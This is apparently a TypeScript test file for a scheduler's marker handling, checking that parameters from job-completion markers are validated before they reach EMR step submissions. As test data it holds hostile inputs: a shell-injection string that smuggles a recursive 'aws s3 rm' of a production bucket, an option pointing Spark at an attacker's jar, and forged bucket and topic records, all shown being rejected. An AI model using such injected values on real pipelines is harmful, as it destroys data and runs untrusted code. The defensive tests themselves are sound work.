import { describe, expect, it } from 'vitest';
import type { RunDate } from '../../lambdas/domain/run-date';
import { onMarker } from '../../lambdas/engine/markers';
import { clusterSpec, configFile, emrJob, issuesOf, pipelineJob } from '../support/config-files';
import { dagFrom, EXTERNAL } from '../support/dags';
import { useDynalite } from '../support/dynalite';
import { BUCKET, createHarness, ETL_CLUSTER } from '../support/harness';

/**
 * Issue 14: a marker is a command. Nothing it says reaches a submission
 * unchecked, and nothing in the event is trusted (docs/threat-model.md).
 */

const emulator = useDynalite();
const DAY = '2026-11-22' as RunDate;

const CLUSTERS = { clusters: [{ name: 'etl-cluster', pools: ['etl'] }] };
const CLUSTER_FILE = { clusters: [clusterSpec('etl-cluster', ['etl'])] };

describe('validate: where marker params may go', () => {
  const step = (args: string[], extra: Record<string, unknown> = {}) =>
    emrJob('load', 'etl', { dependsOn: ['up'], target: { type: 'emr-step', pool: 'etl', step: { args, ...extra } } });

  it('never into the jar or the pipeline', () => {
    expect(
      issuesOf(
        configFile('j.json', {
          jobs: [
            pipelineJob('up'),
            step(['spark-submit', 'x.py'], { jar: 's3://code/{{params.jar}}' }),
            pipelineJob('act', { dependsOn: ['up'], target: { type: 'datapipeline', pipeline: '{{params.pipeline}}' } }),
          ],
          ...CLUSTER_FILE,
        }),
      ).filter((i) => i.includes('params.')),
    ).toEqual([
      'j.json: job "load": target.step.jar: {{params.jar}} may not choose the jar: a marker could run any code',
      'j.json: job "act": target.pipeline: {{params.pipeline}} may not choose the pipeline: a marker could activate any pipeline',
    ]);
  });

  it('not as a whole argument, nor into a -c/-e step, unless declared with an enum or a pattern', () => {
    const shell = ['bash', '-c', "spark-sql -e 'INSERT INTO t SELECT * FROM {{params.table}}'"];
    const undeclared = issuesOf(
      configFile('j.json', {
        jobs: [pipelineJob('up'), step(['spark-submit', '{{params.path}}']), { ...step(shell), name: 'sql' }],
        ...CLUSTER_FILE,
      }),
    );
    expect(undeclared).toEqual([
      expect.stringContaining('job "load": target.step.args[1]: {{params.path}} is a whole argument'),
      expect.stringContaining('job "sql": target.step.args[2]: {{params.table}} goes into a step that runs -c/-e/--execute/-f'),
    ]);
    const declared = issuesOf(
      configFile('j.json', {
        jobs: [
          pipelineJob('up'),
          { ...step(shell), name: 'sql', params: { table: { pattern: '^[a-z_]{1,64}$' } } },
          { ...step(['spark-submit', '{{params.mode}}']), params: { mode: { enum: ['full', 'delta'] } } },
        ],
        ...CLUSTER_FILE,
      }),
    );
    expect(declared).toEqual([]);
  });

  it('patterns must be anchored and valid', () => {
    const issues = issuesOf(
      configFile('j.json', {
        jobs: [pipelineJob('up'), { ...step(['x', '--t={{params.t}}']), params: { t: { pattern: '[a-z]+' } } }],
        ...CLUSTER_FILE,
      }),
    );
    expect(issues).toEqual([expect.stringContaining('params.t.pattern: pattern must be anchored')]);
  });
});

describe('marker params are checked when the marker arrives and again at render', () => {
  const shellDag = () =>
    dagFrom(
      { up: [], sql: ['up'] },
      {
        up: EXTERNAL,
        sql: {
          params: { table: { pattern: '^[a-z_]{1,64}$' } },
          target: {
            type: 'emr-step' as const,
            pool: 'etl',
            step: { args: ['bash', '-c', "spark-sql -e 'SELECT * FROM {{params.table}}'"] },
          },
        },
      },
      CLUSTERS,
    );

  it('the shell-injection string of the review is refused: MARKER_REJECTED, nothing submitted', async () => {
    const h = await createHarness(emulator(), shellDag());
    h.clusters.live = [ETL_CLUSTER];
    const evil = "x'; aws s3 rm --recursive s3://prod-lake/; echo '";
    const outcome = await onMarker(h.deps, h.marker('up', DAY, 'done', { body: JSON.stringify({ params: { table: evil } }) }));
    expect(outcome).toMatchObject({ kind: 'rejected' });
    expect((outcome as { reason: string }).reason).toContain('does not match its declared pattern ^[a-z_]{1,64}$');
    expect(h.alerts.kinds()).toEqual([expect.stringMatching(/^MARKER_REJECTED:/)]);
    expect(h.submitter.calls).toEqual([]);
    expect((await h.run('up', DAY))?.state).toBeUndefined();
  });

  it('a good value renders', async () => {
    const h = await createHarness(emulator(), shellDag());
    h.clusters.live = [ETL_CLUSTER];
    await onMarker(h.deps, h.marker('up', DAY, 'done', { body: JSON.stringify({ params: { table: 'raw_events' } }) }));
    expect(h.submitter.calls[0]?.target).toMatchObject({ args: ['bash', '-c', "spark-sql -e 'SELECT * FROM raw_events'"] });
  });

  it('an undeclared param gets the strict default, and a value starting with "-" is refused even when its pattern allows it', async () => {
    const dag = dagFrom(
      { up: [], a: ['up'], b: ['up'] },
      {
        up: EXTERNAL,
        a: { target: { type: 'emr-step' as const, pool: 'etl', step: { args: ['spark-submit', 'job.py', '--day={{params.day}}'] } } },
        b: {
          params: { opt: { pattern: '^.{1,64}$' } },
          target: { type: 'emr-step' as const, pool: 'etl', step: { args: ['spark-submit', 'job.py', '{{params.opt}}'] } },
        },
      },
      CLUSTERS,
    );
    const h = await createHarness(emulator(), dag);
    h.clusters.live = [ETL_CLUSTER];
    const spaced = await onMarker(h.deps, h.marker('up', DAY, 'done', { body: JSON.stringify({ params: { day: '1 --conf x' } }) }));
    expect((spaced as { reason: string }).reason).toContain('default pattern for undeclared params');
    const option = await onMarker(
      h.deps,
      h.marker('up', DAY, 'done', { body: JSON.stringify({ params: { opt: '--conf=spark.jars=s3://attacker/evil.jar' } }) }),
    );
    expect((option as { reason: string }).reason).toContain('starts with "-"');
    expect(h.submitter.calls).toEqual([]);
  });
});

describe('who may write which markers, and when', () => {
  it("a marker outside the job's prefix is rejected", async () => {
    const h = await createHarness(emulator(), dagFrom({ sessions: [] }, { sessions: { ...EXTERNAL, markers: { prefix: 'teamB/' } } }));
    const outside = await onMarker(h.deps, h.marker('sessions', DAY, 'done', { prefix: 'teamA/' }));
    expect((outside as { reason: string }).reason).toBe('markers of sessions are accepted only under "teamB/", not "teamA/"');
    const inside = await onMarker(h.deps, h.marker('sessions', DAY, 'done', { prefix: 'teamB/' }));
    expect(inside.kind).toBe('succeeded');
  });

  it('run dates outside the window (400 days back, 1 day ahead) are rejected', async () => {
    const h = await createHarness(emulator(), dagFrom({ a: [] }, { a: EXTERNAL }), {
      tuning: { markerDaysBack: 400, markerDaysAhead: 1 },
    });
    for (const date of ['2999-12-31', '2026-11-24', '2025-10-17']) {
      const outcome = await onMarker(h.deps, h.marker('a', date));
      expect(outcome.kind, date).toBe('rejected');
    }
    for (const date of ['2026-11-23', '2025-10-18']) expect((await onMarker(h.deps, h.marker('a', date))).kind, date).toBe('succeeded');
  });
});

describe('nothing in the event is trusted', () => {
  it('a forged size-0 record naming another bucket is rejected without a read', async () => {
    const h = await createHarness(emulator(), dagFrom({ a: [] }, { a: EXTERNAL }));
    const deps = { ...h.deps, trust: { bucket: BUCKET } };
    const forged = { ...h.marker('a', DAY), bucket: 'attacker-bucket', size: 0 };
    const outcome = await onMarker(deps, forged);
    expect((outcome as { reason: string }).reason).toBe('bucket "attacker-bucket" is not the marker bucket "markers-test"');
    expect((await h.run('a', DAY))?.state).toBeUndefined();
  });

  it('a record naming an object that is not in the bucket is rejected, whatever size it claims', async () => {
    const h = await createHarness(emulator(), dagFrom({ a: [] }, { a: EXTERNAL }));
    const deps = { ...h.deps, trust: { bucket: BUCKET } };
    const event = h.marker('a', DAY);
    h.markers.bodies.delete(event.key);
    const outcome = await onMarker(deps, { ...event, size: 0 });
    expect((outcome as { reason: string }).reason).toContain('does not exist in the bucket');
    expect((await h.run('a', DAY))?.state).toBeUndefined();
  });

  it('a notification that did not come through the marker topic changes nothing', async () => {
    const h = await createHarness(emulator(), dagFrom({ a: [] }, { a: EXTERNAL }));
    const { handler } = h.variant({ trust: { bucket: BUCKET, topicArn: 'arn:aws:sns:us-east-1:123456789012:rsched-markers' } });
    const event = h.snsEvent(h.marker('a', DAY)) as { Records: { Sns: Record<string, unknown> }[] };
    for (const r of event.Records) r.Sns.TopicArn = 'arn:aws:sns:us-east-1:999999999999:forged';
    const result = await handler(event);
    expect(result.markers.map((m) => m.kind)).toEqual(['rejected']);
    expect((await h.run('a', DAY))?.state).toBeUndefined();
  });
});
